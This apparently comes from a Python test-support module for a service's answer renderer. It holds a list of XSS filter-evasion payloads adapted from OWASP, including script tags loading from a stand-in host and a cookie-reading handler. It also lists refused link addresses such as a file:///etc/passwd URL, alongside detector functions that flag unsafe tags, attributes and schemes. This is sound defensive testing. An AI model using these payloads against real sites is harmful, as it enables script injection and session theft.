"""Hostile payloads (after the OWASP XSS filter-evasion cheat sheet) and what a safe rendering
of each format looks like: shared by the render, API and property tests."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

from knowledge_service.answers.render import EveryLinkMarkdownIt
from knowledge_service.answers.sanitise import ALLOWED_SCHEMES, SAFE_TAGS

PAYLOADS = [
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74"
    "&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<iframe src=http://xss.example/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<svg/onload=alert('XSS')>",
    "<img src=x onerror=alert(1)>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD4K">',
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    '<a href="jav&#x61;script:alert(1)">x</a>',
    "[click](jav&#x61;script:alert(1))",
    "[click](javascript&colon;alert(1))",
    "<java\tscript:alert(1)>",
    "<javascript:alert(1)>",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pic](javascript:alert(1))",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "[click](JaVaScRiPt :alert(1))",
    "[click](vbscript:msgbox(1))",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\x00<script>alert(1)</script>\x1b[31m",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- x --><script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "<JAVASCRIPT:alert(1)>",
    "[click](data:image/png;base64,iVBORw0KGgo=)",
    "[click](//xss.example/x)",
    "![pic](//xss.example/x.png)",
    "[click](/relative/path)",
    "bell \x07 and escape \x1b[31m",
]

REFUSED_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "jav&#x61;script:alert(1)",
    "javascript&colon;alert(1)",
    "<javascript:alert(1)>",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/png;base64,iVBORw0KGgo=",
    "file:///etc/passwd",
    "//xss.example/x",
    "/relative/path",
    "#top",
]
"""Addresses a Markdown link or image can have (each parses as one) that no rendering keeps:
any scheme but http, https and mailto, relative and scheme-relative (``//host``) ones."""

_SCRIPTY = re.compile(r"(javascript|vbscript|livescript):|data:[a-z]+/")
_TAG_OPEN = re.compile(r"<[A-Za-z/!?]")
_CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")
# What a client's renderer that takes every link as a link would make of a rendering.
_MD = EveryLinkMarkdownIt("commonmark")


def _compact(text: str) -> str:
    for _ in range(4):
        text = html.unescape(text)
    return re.sub(r"[\x00-\x20\x7f-\x9f]+", "", text).lower()


def plain_problems(text: str) -> list[str]:
    """What makes ``text`` unsafe as plain text (empty: safe)."""
    problems = []
    if _TAG_OPEN.search(html.unescape(text)):
        problems.append("tag-shaped text")
    if _SCRIPTY.search(_compact(text)):
        problems.append("script scheme")
    if _CONTROL.search(text):
        problems.append("control character")
    return problems


def _scheme_allowed(url: str) -> bool:
    match = re.match(r"([a-z][a-z0-9+.\-]*):", _compact(url))
    return match is not None and match.group(1) in ALLOWED_SCHEMES


def markdown_problems(text: str) -> list[str]:
    """What makes ``text`` unsafe as Markdown: raw HTML, a link or image with a scheme other
    than http, https or mailto, script schemes or control characters anywhere."""
    problems = [p for p in plain_problems(text) if p != "tag-shaped text"]
    for token in _MD.parse(text):
        if token.type == "html_block":
            problems.append("raw HTML block")
        for child in token.children or []:
            if child.type == "html_inline":
                problems.append("raw HTML")
            url = child.attrs.get("href") or child.attrs.get("src")
            if url is not None and not _scheme_allowed(str(url)):
                problems.append(f"link {url!r}")
    return problems + html_problems(_MD.render(text), extra_tags={"img"})


class _Tags(HTMLParser):
    def __init__(self, allowed: frozenset[str]) -> None:
        super().__init__()
        self.allowed = allowed
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.allowed:
            self.problems.append(f"tag {tag}")
        for name, value in attrs:
            if name == "align" and tag in {"th", "td"}:  # a column's alignment, nothing else
                if value not in {"left", "center", "right"}:
                    self.problems.append(f"align {value!r}")
                continue
            if name == "start" and tag == "ol":  # a numbered list's first number
                if not (value or "").isdigit():
                    self.problems.append(f"start {value!r}")
                continue
            if name not in {"href", "title", "rel", "src", "alt", "class"} or name.startswith("on"):
                self.problems.append(f"attribute {name}")
            if name in {"href", "src"} and not _scheme_allowed(value or ""):
                self.problems.append(f"{name} {value!r}")


def html_problems(fragment: str, extra_tags: set[str] | None = None) -> list[str]:
    """Tags outside the allow-list, event attributes, links with a disallowed scheme (or none:
    relative and scheme-relative ones), or control characters."""
    parser = _Tags(SAFE_TAGS | (extra_tags or set()))
    parser.feed(fragment)
    parser.close()
    return parser.problems + (["control character"] if _CONTROL.search(fragment) else [])


class _PageTags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.problems.append(f"attribute {name} on {tag}")
            if name in {"href", "src", "action", "formaction"}:
                compact = _compact(value or "")
                scheme = re.match(r"([a-z][a-z0-9+.\-]*):", compact)
                if scheme is not None and scheme.group(1) not in ALLOWED_SCHEMES:
                    self.problems.append(f"{name} {value!r}")


def page_problems(page: str) -> list[str]:
    """An HTML page's problems: event-handler or style attributes, or links with a scheme
    other than http, https and mailto (relative links are the page's own)."""
    parser = _PageTags()
    parser.feed(page)
    parser.close()
    return parser.problems
